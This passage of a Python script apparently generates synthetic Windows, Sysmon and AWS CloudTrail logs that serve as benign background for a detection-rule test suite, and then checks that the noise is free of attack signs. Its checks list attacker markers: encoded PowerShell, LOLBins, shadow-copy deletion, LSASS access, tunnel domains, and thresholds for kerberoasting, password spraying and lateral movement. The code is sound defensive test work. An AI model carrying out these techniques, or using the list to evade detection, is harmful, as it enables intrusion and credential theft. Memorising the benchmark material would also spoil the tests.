                                         "arn": "arn:aws:sts::%s:assumed-role/lambda-thumbnailer/thumbnailer" % ACCT}},
                    ip="lambda.amazonaws.com", ua="lambda.amazonaws.com"))
    for h in (3, 15):
        tt = day + timedelta(hours=h, seconds=R.randint(0, 3600))
        E.append(ct(tt, "sts.amazonaws.com", "AssumeRole", svc_id("ec2.amazonaws.com"),
                    {"roleArn": "arn:aws:iam::%s:role/ec2-app-role" % ACCT, "roleSessionName": "i-0a1b2c3d4e5f67890"}, None,
                    ip="ec2.amazonaws.com", ua="ec2.amazonaws.com"))
    aud = role_id("SecurityAuditRole", "audit")
    tt = rand_time(day, 6, 6.5)
    for i, (src, n, p) in enumerate([("cloudtrail", "DescribeTrails", {"includeShadowTrails": True}),
                                     ("cloudtrail", "GetTrailStatus", {"name": "org-audit-trail"}),
                                     ("cloudtrail", "GetEventSelectors", {"trailName": "org-audit-trail"}),
                                     ("iam", "GetAccountPasswordPolicy", None),
                                     ("ec2", "DescribeSecurityGroups", {"filterSet": {}})]):
        E.append(ct(tt + timedelta(seconds=15 * i), src + ".amazonaws.com", n, aud, p, ip="34.240.10.30",
                    region="us-east-1" if src == "iam" else "eu-west-1"))
    if day.day == 2:
        E.append(ct(rand_time(day, 11, 11.5), "iam.amazonaws.com", "ListRoles", dv, None, error="AccessDenied", region="us-east-1"))
    if day.day == 4:
        E.append(ct(rand_time(day, 15, 15.5), "ecs.amazonaws.com", "DeleteService", ci, {"cluster": "prod", "service": "old-api"},
                    error="AccessDenied", ip="34.240.10.20"))
    if day.day == 3:
        tf = iam_user("svc-terraform")
        tt = rand_time(day, 14, 14.5)
        g = "sg-0a1b2c3d4e5f60718"
        perms = [sg_perm("tcp", 443, cidr="10.0.0.0/16")]
        E.append(ct(tt, "ec2.amazonaws.com", "DescribeSecurityGroups", tf, {"securityGroupIdSet": {"items": [{"groupId": g}]}},
                    ua=UA_TF, ip="34.240.10.20"))
        E.append(ct(tt + timedelta(seconds=20), "ec2.amazonaws.com", "AuthorizeSecurityGroupIngress", tf, sg_params(g, perms),
                    sg_resp(g, perms), ua=UA_TF, ip="34.240.10.20"))
        E.append(ct(tt + timedelta(seconds=40), "iam.amazonaws.com", "CreateAccessKey", tf, {"userName": "ci-deployer"},
                    {"accessKey": {"userName": "ci-deployer", "accessKeyId": "AKIA" + "%016X" % R.getrandbits(64),
                                   "status": "Active", "createDate": "Feb 3, 2026 2:10:40 PM"}},
                    ua=UA_TF, ip="34.240.10.20", region="us-east-1"))
        E.append(ct(tt + timedelta(seconds=55), "iam.amazonaws.com", "DeleteAccessKey", tf,
                    {"userName": "ci-deployer", "accessKeyId": "AKIA4EXAMPLE7OLDKEY"}, ua=UA_TF, ip="34.240.10.20",
                    region="us-east-1"))
        E.append(ct(tt + timedelta(seconds=70), "s3.amazonaws.com", "PutBucketPolicy", tf,
                    bucket_policy_params("corp-shared-reports",
                                         [{"Sid": "PartnerRead", "Effect": "Allow",
                                           "Principal": {"AWS": "arn:aws:iam::444455556666:root"},
                                           "Action": "s3:GetObject", "Resource": "arn:aws:s3:::corp-shared-reports/*"}]),
                    None, ua=UA_TF, ip="34.240.10.20"))
    return E


def when(e):
    return e.get("TimeGenerated") or e.get("eventTime")


def background():
    E = []
    for d in (2, 3, 4):
        day = datetime(2026, 2, d)
        E += nightly(day)
        for h in ALL_HOSTS:
            E += host_noise(day, h)
        for ws in WS:
            E += user_day(day, ws)
        E += admin_day(day)
        E += machine_accounts(day)
        E += cloud_day(day)
    E.sort(key=lambda e: (when(e)[:19], when(e)[19:]))
    return E


# =========================================================================== sanity checks on the background
def _t(e):
    s = when(e)
    return datetime.strptime(s[:19], "%Y-%m-%dT%H:%M:%S")


def _max_in_window(items, window_s, distinct):
    """items: list of (time, value). Largest count (or distinct count) inside any window of window_s seconds."""
    items = sorted(items)
    best = 0
    for i, (t0, _) in enumerate(items):
        vals = [v for (t, v) in items[i:] if (t - t0).total_seconds() <= window_s]
        best = max(best, len(set(vals)) if distinct else len(vals))
    return best


def _grouped_max(events, pred, key, val, window_s, distinct):
    g = defaultdict(list)
    for e in events:
        if pred(e):
            g[key(e)].append((_t(e), val(e)))
    return max([_max_in_window(v, window_s, distinct) for v in g.values()] or [0])


def check_background(E):
    win_ev = [e for e in E if "EventID" in e]
    ct_ev = [e for e in E if "eventName" in e]
    low = lambda s: (s or "").lower()
    problems = []

    def need(cond, msg):
        if not cond:
            problems.append(msg)

    cmdlines = [low(e.get("CommandLine")) for e in win_ev if e.get("CommandLine")]
    for bad in (" -e ", " -ec ", " -enc ", "-encodedcommand", "urlcache", "scrobj", "mshta", "comsvcs", "bitsadmin",
                "wevtutil", "clear-eventlog", "reg save", "reg.exe save", "delete shadows", "shadowcopy delete",
                "resize shadowstorage", "/add"):
        need(not any(bad in c for c in cmdlines), "background command line contains %r" % bad)
    for e in win_ev:
        eid, ch = e["EventID"], e["Channel"]
        if ch == SYSMON and eid == 1:
            par = low(e["ParentImage"]).split("\\")[-1]
            img = low(e["Image"]).split("\\")[-1]
            need(not (par in ("winword.exe", "excel.exe", "powerpnt.exe") and img in ("cmd.exe", "powershell.exe", "wscript.exe", "cscript.exe")),
                 "office spawns shell")
            need(not (par == "w3wp.exe" and img in ("cmd.exe", "powershell.exe", "whoami.exe", "net.exe")), "w3wp spawns shell")
            if e["OriginalFileName"] in ("PowerShell.EXE", "pwsh.dll"):
                need(img in ("powershell.exe", "pwsh.exe"), "renamed powershell")
        if ch == SYSMON and eid == 10 and low(e["TargetImage"]).endswith("\\lsass.exe"):
            need(low(e["SourceImage"]).endswith("\\msmpeng.exe") or "\\crowdstrike\\" in low(e["SourceImage"]), "lsass access")
        if ch == SYSMON and eid == 11:
            need("\\start menu\\programs\\startup\\" not in low(e["TargetFilename"]), "startup folder")
        if ch == SYSMON and eid == 13 and "\\currentversion\\run" in low(e["TargetObject"]):
            need(low(e["Image"]).split("\\")[-1] in ("onedrive.exe", "ms-teams.exe"), "run key")
        if ch == SYSMON and eid == 22:
            need(not any(x in low(e["QueryName"]) for x in ("ngrok", "trycloudflare")), "tunnel dns")
        if ch == SYSMON and eid == 3:
            need(not low(e["Image"]).endswith("rundll32.exe"), "rundll32 network")
        if eid == 4732:
            need(e["TargetUserName"] != "Administrators", "4732 admins")
        if eid == 4698:
            c = low(e["TaskContent"])
            need(not any(x in c for x in ("\\appdata\\", "\\temp\\", "\\users\\public\\")) or
                 "onedrive standalone update task" in low(e["TaskName"]), "4698 user path")
        if eid == 7045:
            need(not any(x in low(e["ImagePath"]) for x in ("cmd.exe", "powershell", "\\temp\\", "\\users\\public\\")), "7045")
        need(eid != 1102, "1102")
    for e in ct_ev:
        n = e["eventName"]
        need(n not in ("StopLogging", "DeleteTrail"), "trail stopped")
        if n == "ConsoleLogin" and e["responseElements"]["ConsoleLogin"] == "Success":
            need(e["additionalEventData"]["MFAUsed"] == "Yes" or e["userIdentity"]["type"] == "AssumedRole", "no mfa")
        if n == "CreateAccessKey":
            need(e["userIdentity"].get("userName") == "svc-terraform", "access key")
        if n == "AuthorizeSecurityGroupIngress":
            need("0.0.0.0/0" not in json.dumps(e) and "::/0" not in json.dumps(e), "sg open")
        if n == "PutBucketPolicy":
            need('"*"' not in json.dumps(e["requestParameters"]), "public bucket")
    # thresholds
    sec = lambda eid: (lambda e: e.get("Channel") == SEC and e["EventID"] == eid)
    need(_grouped_max(win_ev, sec(4769), lambda e: (e["TargetUserName"], e["IpAddress"]), lambda e: e["ServiceName"], 1800, True) < 10,
         "kerberoast")
    need(_grouped_max(win_ev, sec(4769), lambda e: e["IpAddress"], lambda e: e["ServiceName"], 1800, True) < 10, "kerberoast/ip")
    need(_grouped_max(win_ev, sec(4625), lambda e: e["IpAddress"], lambda e: 1, 300, False) < 10, "brute force")
    need(_grouped_max(win_ev, sec(4625), lambda e: e["IpAddress"], lambda e: e["TargetUserName"], 600, True) < 8, "spray")
    need(_grouped_max(win_ev, lambda e: e.get("Channel") == SYSMON and e["EventID"] == 3 and e["DestinationPort"] == 445,
                      lambda e: e["Computer"], lambda e: e["DestinationIp"], 300, True) < 15, "smb fanout")
    need(_grouped_max(win_ev, lambda e: sec(4624)(e) and e["LogonType"] == 3 and e["TargetUserName"] != "svc-backup",
                      lambda e: e["TargetUserName"], lambda e: e["Computer"], 600, True) < 4, "lateral")
    recon = ("whoami.exe", "ipconfig.exe", "systeminfo.exe", "net.exe", "nltest.exe", "tasklist.exe", "quser.exe")
    need(_grouped_max(win_ev, lambda e: e.get("Channel") == SYSMON and e["EventID"] == 1 and
                      low(e["Image"]).split("\\")[-1] in recon,
                      lambda e: (e["User"], e["Computer"]), lambda e: low(e["Image"]), 600, True) < 4, "recon")
    need(_grouped_max(ct_ev, lambda e: e.get("errorCode") == "AccessDenied", lambda e: e["userIdentity"].get("arn"),
                      lambda e: 1, 600, False) < 10, "access denied")
    return problems


# =========================================================================== writing
def dump(path, events):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", newline="\n") as f:
        for e in events:
            f.write(json.dumps(e, ensure_ascii=False) + "\n")


def main():
    build_cases()
    bg = background()
    cases_dir = os.path.join(HERE, "cases")
    if os.path.isdir(cases_dir):
        shutil.rmtree(cases_dir)
    for c in CASES:
        d = os.path.join(cases_dir, c["name"])
        os.makedirs(d)
        with open(os.path.join(d, "description.txt"), "w", newline="\n") as f:
            f.write(c["description"] + "\n")
        key = lambda e: when(e)[:19] + when(e)[19:].rstrip("Z")
        dump(os.path.join(d, "positive", "events.jsonl"), sorted(c["pos"], key=key))
        dump(os.path.join(d, "negative", "events.jsonl"), sorted(c["neg"], key=key))
        with open(os.path.join(d, "expect.txt"), "w", newline="\n") as f:
            f.write("shape: %s\npositive_alerts: %d\ntechnique: %s\n" % (c["shape"], c["alerts"], c["technique"]))
    dump(os.path.join(HERE, "background", "events.jsonl"), bg)

    problems = check_background(bg)
    shapes = defaultdict(int)
    for c in CASES:
        shapes[c["shape"]] += 1
    print("cases: %d %s" % (len(CASES), dict(shapes)))
    print("background events: %d" % len(bg))
    for p in sorted(set(problems)):
        print("BACKGROUND PROBLEM:", p)
    assert len(CASES) == 34, len(CASES)
    assert len({c["name"] for c in CASES}) == 34
    return 1 if problems else 0


if __name__ == "__main__":
    raise SystemExit(main())
